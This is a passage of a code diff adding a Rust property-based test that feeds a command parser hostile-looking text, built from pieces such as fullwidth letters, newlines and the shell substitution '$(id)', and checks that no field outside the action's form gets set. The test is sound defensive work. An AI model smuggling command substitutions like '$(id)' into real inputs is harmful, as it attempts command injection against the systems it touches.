+            "1h",
+            "lightsail-connect",
+            "ｆｏｒ",
+            "\n",
+            "$(id)",
+        ]);
+        prop::collection::vec(pieces, 0..24).prop_map(|pieces| pieces.join(" "))
+    }
+
+    proptest! {
+        #[test]
+        fn no_text_sets_a_field_its_form_does_not_emit(
+            text in prop_oneof![words_of_a_hostile_text(), any::<String>()]
+        ) {
+            if let Some(command) = parse(&text).ok().and_then(|c| c.to_command()) {
+                let object = command.as_object().unwrap();
+                let action = object["action"].as_str().unwrap();
+                for field in object.keys() {
+                    prop_assert!(emittable(action).contains(&field.as_str()), "{text:?} set {field}");
+                }
+                if let Ok(typed) = Command::from_json(&as_the_caller_sends(command.clone())) {
+                    let expected = (action != "status").then_some("alice");
+                    prop_assert_eq!(typed.action.requester(), expected);
+                    prop_assert!(!typed.dry_run);
+                }
+            }
+        }
+    }
+}
